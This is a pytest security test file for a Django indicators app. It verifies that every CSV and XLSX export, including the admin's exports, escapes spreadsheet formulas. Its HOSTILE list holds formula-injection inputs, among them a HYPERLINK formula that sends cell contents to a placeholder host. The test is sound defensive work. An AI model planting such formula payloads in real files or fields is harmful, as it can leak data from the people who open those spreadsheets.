"""No file the app produces holds a formula, whatever staff typed (CSV and XLSX alike)."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.admin import site as admin_site
from django.urls import reverse
from openpyxl import load_workbook

from indicators.models import Indicator, MeasureKind, StrategyState
from indicators.recording.services import measurement_record, strategy_progress_record
from indicators.spreadsheets.cells import FORMULA_STARTS
from plan.models import Strategy
from tests import codes
from tests.security.url_map import admin_urls, project_urls

HOSTILE = [
    '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
# Files that are not produced by the app: evidence is the person's own file, sent back as is.
NOT_PRODUCED = {"indicators:evidence_download"}


@pytest.fixture
def hostile_data(plan_2018_2023, admin_user):
    period = codes.period("2019-2020")
    # The first six counts by category of the plan, refined into plain counts.
    counts = [codes.indicator(code) for code in ("1.1", "1.2", "2.1", "2.2", "3.1", "3.2")]
    assert {indicator.kind for indicator in counts} == {MeasureKind.COUNT_BY_CATEGORY}
    unit_length = Indicator._meta.get_field("unit").max_length  # PostgreSQL enforces it
    for indicator, text in zip(counts, HOSTILE, strict=True):
        indicator.kind, indicator.dimension = MeasureKind.COUNT, None
        indicator.unit = text[:unit_length]
        indicator.save()
        measurement_record(
            indicator=indicator,
            period=period,
            user=admin_user,
            value=Decimal(3),
            narrative=text,
            comment=text,
            version=0,
        )
    for strategy, text in zip(Strategy.objects.all(), HOSTILE, strict=False):
        strategy_progress_record(
            strategy=strategy,
            period=period,
            state=StrategyState.IN_PROGRESS,
            note=text,
            user=admin_user,
        )
    return period


def cells_of(response):
    body = response.getvalue()
    if response["Content-Type"].startswith("text/csv"):
        yield from (
            (cell, "s")
            for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";")
            for cell in row
        )
        return
    workbook = load_workbook(io.BytesIO(body))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield cell.value, cell.data_type


def assert_neutralised(name, response):
    texts = []
    for value, data_type in cells_of(response):
        assert data_type != "f", (name, value)
        if isinstance(value, str):
            assert not value.startswith(FORMULA_STARTS), (name, value)
            texts.append(value)
    # The hostile texts are in the file, neutralised, not dropped.
    assert any(text.startswith("'=HYPERLINK") for text in texts), name


def is_attachment(response):
    return response.get("Content-Disposition", "").startswith("attachment")


def test_every_download_neutralises_formulas(admin_client, hostile_data):
    checked = []
    for name, route in sorted(project_urls().items()):
        if name in NOT_PRODUCED:
            continue
        if "<years:years>" in route:  # any plan's pages, at its own URLs
            url = reverse(name, kwargs={"years": hostile_data.plan.years})
        elif "<" in route:
            continue
        else:
            url = reverse(name)
        response = admin_client.get(url, {"periode": hostile_data.pk})
        if not is_attachment(response):
            continue
        assert_neutralised(name, response)
        checked.append(name)
    assert {
        "indicators:measurement_export_csv",
        "indicators:measurement_export_xlsx",
        "board:board_report_xlsx",
        "board:plan_board_report_xlsx",
    } <= set(checked)


def admin_object_ids():
    """{URL name prefix « admin:plan_strategicplan_ »: the pk of a saved object of its model}."""
    ids = {}
    for model in admin_site._registry:
        first = model._default_manager.order_by("pk").first()
        if first is not None:
            ids[f"admin:{model._meta.app_label}_{model._meta.model_name}_"] = first.pk
    return ids


def test_every_admin_download_neutralises_formulas(admin_client, hostile_data):
    """The admin's files too (a plan's structure workbook, its empty template), found by
    walking the admin's URLs: those without parameters, and those of one saved object."""
    ids = admin_object_ids()
    checked = []
    for name, route in sorted(admin_urls().items()):
        path = "/" + route
        if "<path:object_id>" in path:
            prefix = next((p for p in ids if name.startswith(p)), None)
            if prefix is None:
                continue
            path = path.replace("<path:object_id>", str(ids[prefix]))
        if "<" in path or "(" in path or name == "admin:logout":
            continue
        response = admin_client.get(path)
        if not is_attachment(response):
            continue
        if name == "admin:plan_strategicplan_structure_template":
            # The empty template holds no text of the plan: only its headers and lists.
            assert all(data_type != "f" for _value, data_type in cells_of(response))
        else:
            assert_neutralised(name, response)
        checked.append(name)
    assert {
        "admin:plan_strategicplan_structure_export",
        "admin:plan_strategicplan_structure_template",
    } <= set(checked)
